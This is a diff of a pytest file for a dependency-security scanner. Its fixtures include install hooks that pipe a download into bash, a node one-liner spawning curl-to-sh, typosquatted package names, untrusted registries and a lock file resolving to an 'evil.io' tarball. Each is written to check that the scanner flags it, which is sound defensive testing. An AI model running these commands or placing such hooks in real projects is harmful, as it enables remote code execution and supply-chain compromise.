@@ -2,13 +2,11 @@ import json
 from typing import Any
 
 import pytest
-from analysis_kit import assert_fits_document
+from analysis_kit import assert_fits_document, without_code
 from script_kit import SERVER, assembled, found_in
 
-from miner.analysis.analyse import analyse
-from miner.analysis.bounds import MAX_LOCK, MAX_LOCKED, MAX_PACKAGES
-from miner.analysis.result import BEYOND, Analysis
-from miner.npm_advisories import TABLE
+from miner.analysis import Analysis, analyse
+from miner.scanners.packages import MAX_LOCKED
 
 
 def of_package(document: dict[str, Any]) -> Analysis:
@@ -23,22 +21,7 @@ def pins(analysis: Analysis) -> dict[str, str]:
 def test_scripts_are_read_as_shell(hook: str) -> None:
     analysis = of_package({"name": "a", "scripts": {"x": "tsc", hook: "<CURL> https://<HOST>/i | bash"}})
     assert found_in(analysis, "package.json") == {("critical", "excessive_capability", 5)}
-    assert analysis.capabilities == (() if hook == "build" else ("subprocess",))
-
-
-def test_code_that_a_script_gives_to_node_is_read() -> None:
-    code = "require('child_process').exec('<CURL> https://<HOST> | sh')"
-    analysis = of_package({"scripts": {"preinstall": f'node -e "{code}"'}})
-    assert ("critical", "excessive_capability", 3) in found_in(analysis, "package.json")
-    assert of_package({"scripts": {"preinstall": 'node -e "console.log(1)"'}}).findings == ()
-
-
-def test_more_scripts_than_are_read_are_said() -> None:
-    long = f"echo {'a' * 3_000}"  # costs the parser little
-    scripts = {f"s{n:03}": long for n in range(50)}
-    assert BEYOND in {f.description for f in of_package({"scripts": scripts}).findings}
-    calls = f"require('child_process').exec('{long}');\n".encode()
-    assert BEYOND in {f.description for f in analyse({"a.js": calls * 50}, SERVER).findings}
+    assert analysis.capabilities == (() if hook == "build" else ("network", "subprocess"))
 
 
 @pytest.mark.parametrize("script", ["tsc && chmod +x dist/index.js", "rimraf dist", "node install.js", "husky || true"])
@@ -55,7 +38,12 @@ def test_a_command_in_place_of_the_system_s_is_a_finding() -> None:
 def test_exact_versions_are_dependencies_and_open_ones_are_said() -> None:
     analysis = of_package(
         {
-            "dependencies": {"lodash": "4.17.20", "zod": "^3.0.0", "open": "*", "elsewhere": "github:o/r"},
+            "dependencies": {
+                "lodash": "4.17.20",
+                "zod": "^3.0.0",
+                "open": "*",
+                "elsewhere": "https://packages.invalid/x.tgz",
+            },
             "devDependencies": {"axios": "0.21.0"},
         }
     )
@@ -63,9 +51,9 @@ def test_exact_versions_are_dependencies_and_open_ones_are_said() -> None:
     assert found_in(analysis, "package.json") == {
         ("high", "dependency_cve", 3),
         ("low", "other", 5),
-        ("low", "other", 6),
+        ("high", "excessive_capability", 6),
     }
-    finding = analysis.findings[0]
+    finding = next(f for f in analysis.findings if f.cve_ids)
     assert (finding.cve_ids, finding.target_pattern) == (("CVE-2021-23337",), "pkg:npm/lodash@4.17.20")
 
 
@@ -112,7 +100,7 @@ LOCKS = {
 @pytest.mark.parametrize("tool", LOCKS)
 def test_lock_files_say_what_is_installed(tool: str) -> None:
     name, text, line = LOCKS[tool]
-    analysis = analyse({name: text.encode()}, SERVER)
+    analysis = without_code({name: text.encode()}, SERVER)
     assert pins(analysis) == {"minimist": "1.2.5", "ws": "8.18.0"}
     assert found_in(analysis, name) == {("critical", "dependency_cve", line)}
 
@@ -131,24 +119,21 @@ HOSTILE = {
 @pytest.mark.parametrize("name", HOSTILE)
 def test_hostile_lock_files_are_borne(name: str) -> None:
     files = dict.fromkeys(("package-lock.json", "yarn.lock", "pnpm-lock.yaml"), HOSTILE[name])
-    analysis = analyse(files, SERVER)
+    analysis = without_code(files, SERVER)
     assert_fits_document(analysis, files, SERVER)
     assert len(analysis.dependencies) <= MAX_LOCKED
 
 
-def test_a_lock_file_that_is_too_large_is_said() -> None:
-    analysis = analyse({"yarn.lock": YARN.encode() + b"#" * MAX_LOCK}, SERVER)
-    assert (analysis.dependencies, found_in(analysis, "yarn.lock")) == ((), {("low", "other", 1)})
-
-
-def test_more_packages_than_are_read_are_said() -> None:
-    files = {f"packages/p{n:03}/package.json": b"{}" for n in range(MAX_PACKAGES + 2)}
-    places = [f.evidence_ref for f in analyse(files, SERVER).findings]
-    assert places == [f"packages/p{MAX_PACKAGES:03}/package.json#L1-L1"]
-
-
-def test_advisories_are_sorted_and_their_ranges_are_read() -> None:
-    assert list(TABLE) == sorted(TABLE)
-    for advisory in TABLE:
-        version = advisory.affected[-1].rpartition("<")[2]
-        assert pins(of_package({"dependencies": {advisory.package: version}})) == {advisory.package: version}
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("requirements.txt", "reqeusts==2.31.0\n"),
+        ("requirements.txt", "--extra-index-url https://packages.internal-build.io/simple\nrequests\n"),
+        ("package.json", '{"dependencies": {"lodahs": "^4.17.21"}}'),
+        (".npmrc", "registry=https://npm.mirror-cache.io/\n"),
+        ("package-lock.json", '{"packages": {"node_modules/a": {\n"resolved": "https://evil.io/a.tgz"}}}'),
+    ],
+)
+def test_packages_that_may_be_a_strangers_are_told(name: str, text: str) -> None:
+    finding = analyse({name: text.encode()}, SERVER).findings[0]
+    assert (finding.severity, finding.category) == ("high", "excessive_capability")
